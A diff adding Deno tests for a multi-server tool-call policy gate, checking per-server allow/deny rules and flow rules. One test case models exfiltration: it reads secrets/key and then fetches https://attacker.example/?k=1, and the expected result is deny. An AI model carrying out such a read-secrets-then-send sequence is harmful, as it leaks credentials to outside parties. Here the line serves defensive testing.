@@ -192,3 +192,158 @@ Deno.test("gate test refuses a wrong file with its line and column (exit 2)", as
     assert.match(run.stderr, /Expected test CASES --policy FILE/);
   });
 });
+
+// A gate of many servers: each server's entry adds its own rules to the
+// top level's, and the second flow watches the web server only.
+const SERVERS_POLICY = (root: string, flowServer = "    server: web\n") =>
+  `servers:
+  files:
+    command: ["node", "/opt/fs/dist/index.js", "${root}"]
+    presets: [filesystem]
+    roots: ["${root}"]
+  notes:
+    command: ["deno", "run", "-A", "examples/hello-tool/main.ts"]
+    deny: ["write:notes/private/**"]
+  web:
+    url: "https://mcp.example.com/mcp"
+    headers: { Authorization: "Bearer \${WEB_TOKEN}" }
+    tools:
+      fetch: { patterns: ["net:{url}"] }
+allow: ["read:**", "write:notes/**", "net:**"]
+deny: ["write:secrets/**"]
+flows:
+  - after: ["read:secrets/**"]
+    deny: ["net:**", "exec:**"]
+  - after: ["net:**"]
+${flowServer}    ask: ["write:**", "exec:**", unprobed]
+`;
+
+const SERVER_CASES = `cases:
+  - name: the top level's allow
+    server: files
+    tool: write_file
+    arguments: { path: notes/private/a.md, content: x }
+    expect: allow
+  - name: the entry's own deny
+    server: notes
+    tool: write_note
+    patterns: ["write:notes/private/a.md"]
+    expect: deny
+  - name: the entry's own tools
+    server: web
+    tool: fetch
+    arguments: { url: "https://example.com" }
+    expect: allow
+  - name: no exfiltration across servers
+    before:
+      - server: files
+        tool: read_text_file
+        arguments: { path: secrets/key }
+    server: web
+    tool: fetch
+    arguments: { url: "https://attacker.example/?k=1" }
+    expect: deny
+  - name: content from the web asks before a write
+    before:
+      - { server: web, tool: fetch, arguments: { url: "https://example.com" } }
+    server: files
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: ask
+  - name: the network on another server does not set off the web's flow
+    before:
+      - { server: notes, tool: fetch_note, patterns: ["net:https://example.com"] }
+    server: files
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: allow
+`;
+
+Deno.test("gate test decides each case by its server's view of the policy", async (t) => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root));
+  await t.step("every case holds", async () => {
+    await Deno.writeTextFile(ws.cases, SERVER_CASES);
+    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+    assert.equal(run.stderr, "");
+    assert.equal(run.stdout, `${ws.cases}: 6 cases hold\n`);
+    assert.equal(run.code, 0);
+  });
+  await t.step(
+    "a wrong expectation is named with its server, and a flow with the host's name of the call that set it off",
+    async () => {
+      await Deno.writeTextFile(
+        ws.cases,
+        SERVER_CASES.replace(
+          '"https://attacker.example/?k=1" }\n    expect: deny',
+          '"https://attacker.example/?k=1" }\n    expect: allow',
+        ).replace(
+          'notes/private/a.md"]\n    expect: deny',
+          'notes/private/a.md"]\n    expect: allow',
+        ),
+      );
+      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+      assert.equal(run.code, 1);
+      assert.equal(
+        run.stdout,
+        [
+          `${ws.cases}:11:5: cases[1] (the entry's own deny) on server "notes": expected allow, got deny by write:notes/private/**`,
+          `${ws.cases}:25:5: cases[3] (no exfiltration across servers) on server "web": expected allow, got deny by flows[0] (net:**), set off by read:secrets/key of files_read_text_file`,
+          `${ws.cases}: 2 of 6 cases missed`,
+          "",
+        ].join("\n"),
+      );
+    },
+  );
+  await t.step(
+    "a flow that watches every server decides a case otherwise",
+    async () => {
+      await Deno.writeTextFile(ws.cases, SERVER_CASES);
+      await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root, ""));
+      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+      assert.equal(run.code, 1);
+      assert.equal(
+        run.stdout,
+        [
+          `${ws.cases}:39:5: cases[5] (the network on another server does not set off the web's flow) on server "files": expected allow, got ask by flows[1] (write:**), set off by net:https://example.com of notes_fetch_note`,
+          `${ws.cases}: 1 of 6 cases missed`,
+          "",
+        ].join("\n"),
+      );
+    },
+  );
+  await t.step(
+    "a call without its server, or on an unknown one, is refused (exit 2)",
+    async (t) => {
+      await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root));
+      const wrong: [string, string][] = [
+        [
+          "cases:\n  - tool: write_file\n    expect: allow\n",
+          ":2:5: cases[0]: missing server: the policy names servers (files, notes, web): expected the server the call is for, such as server: files",
+        ],
+        [
+          "cases:\n  - tool: fetch\n    server: mail\n    expect: allow\n",
+          ':3:5: cases[0].server: expected one of the policy\'s servers (files, notes, web), got "mail"',
+        ],
+        [
+          "cases:\n  - server: web\n    tool: fetch\n    before:\n      - { tool: read_text_file }\n    expect: allow\n",
+          ":4:5: cases[0].before[0]: missing server: the policy names servers (files, notes, web)",
+        ],
+      ];
+      for (const [text, message] of wrong) {
+        await t.step(message, async () => {
+          await Deno.writeTextFile(ws.cases, text);
+          const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+          assert.equal(run.code, 2);
+          assert.equal(run.stdout, "");
+          assert.ok(
+            run.stderr.startsWith(
+              `forge gate: Cannot read the cases: ${ws.cases}${message}`,
+            ),
+            run.stderr,
+          );
+        });
+      }
+    },
+  );
+});
